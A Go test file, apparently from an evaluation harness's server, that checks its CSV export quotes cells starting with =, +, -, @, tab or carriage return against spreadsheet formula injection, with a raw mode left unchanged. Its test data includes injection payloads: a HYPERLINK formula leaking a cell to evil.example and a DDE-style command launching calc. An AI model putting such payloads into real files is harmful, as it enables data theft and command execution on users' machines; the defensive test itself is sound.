package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"slices"
	"testing"

	"github.com/gauntlet-eval/gauntlet/harness"
	"github.com/gauntlet-eval/gauntlet/harness/runs"
)

// TestRunExportSpreadsheetSafe checks the CSV export against formula
// injection: a cell starting with = + - @, a tab or a carriage return is
// written with a leading single quote, so that a spreadsheet shows it as
// text; raw=true writes every cell as it is, for programs.
func TestRunExportSpreadsheetSafe(t *testing.T) {
	t.Parallel()
	e := newEngineEnv(t, engineConfig{})
	ctx := context.Background()
	responses := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1,2)",
		"\tindented",
		"\rcarriage",
		"plain answer",
		"'already quoted",
		"a=b later in the cell",
	}
	if err := e.runs.CreateRun(ctx, runs.Info{RunID: "evil", StartedAt: "2026-01-02 03:04:05", ModelName: "m", Model: "m",
		Status: runs.StatusCompleted, TotalTests: len(responses), Domains: []string{"d"}},
		[]runs.CellKey{{Domain: "d", Level: 1, Tests: len(responses)}}); err != nil {
		t.Fatal(err)
	}
	var all []runs.Result
	for i, resp := range responses {
		all = append(all, runs.Result{RunID: "evil", TestID: "t" + string(rune('a'+i)), Domain: "d", Level: 1,
			Name: "=name", Prompt: "@prompt", Response: resp, Expected: harness.Expected{Answer: "-5", Type: "exact"},
			Status: runs.TestFailed, Details: map[string]any{"extracted_answer": "+x"}, CreatedAt: "2026-01-02 03:04:07"})
	}
	if err := e.runs.SaveResults(ctx, all); err != nil {
		t.Fatal(err)
	}
	read := func(query string) ([][]string, func(row []string, name string) string) {
		t.Helper()
		r := must(t, e.get("/api/run/evil/export?format=csv"+query), http.StatusOK)
		rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		if err != nil {
			t.Fatalf("the CSV does not parse: %v", err)
		}
		if len(rows) != len(responses)+1 {
			t.Fatalf("%d rows, want %d", len(rows), len(responses)+1)
		}
		return rows, func(row []string, name string) string { return row[slices.Index(rows[0], name)] }
	}

	rows, col := read("")
	for i, want := range []string{
		`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
		"'+1+cmd|' /C calc'!A0",
		"'-2+3",
		"'@SUM(1,2)",
		"'\tindented",
		"'\rcarriage",
		"plain answer",
		"'already quoted",
		"a=b later in the cell",
	} {
		if got := col(rows[i+1], "response"); got != want {
			t.Errorf("response %d: %q, want %q", i, got, want)
		}
	}
	if got := []string{col(rows[1], "name"), col(rows[1], "prompt"), col(rows[1], "expected_answer"), col(rows[1], "extracted_answer")}; !slices.Equal(got,
		[]string{"'=name", "'@prompt", "'-5", "'+x"}) {
		t.Errorf("other text columns: %q", got)
	}

	for _, q := range []string{"&raw=true", "&raw=1"} {
		rows, col = read(q)
		for i, want := range responses {
			if got := col(rows[i+1], "response"); got != want {
				t.Errorf("%s: response %d: %q, want %q as stored", q, i, got, want)
			}
		}
		if col(rows[1], "name") != "=name" {
			t.Errorf("%s: name %q", q, col(rows[1], "name"))
		}
	}
	rows, col = read("&raw=false")
	if col(rows[1], "response") != "'"+responses[0] {
		t.Errorf("raw=false: %q", col(rows[1], "response"))
	}
	// JSON Lines stays exact.
	r := must(t, e.get("/api/run/evil/export?format=jsonl"), http.StatusOK)
	if !bytes.Contains(r.body, []byte(`"response":"=HYPERLINK(`)) {
		t.Errorf("jsonl changed the response: %.300s", r.body)
	}
	mustProblem(t, e.get("/api/run/evil/export?format=csv&raw=maybe"), http.StatusUnprocessableEntity, "query.raw")
}
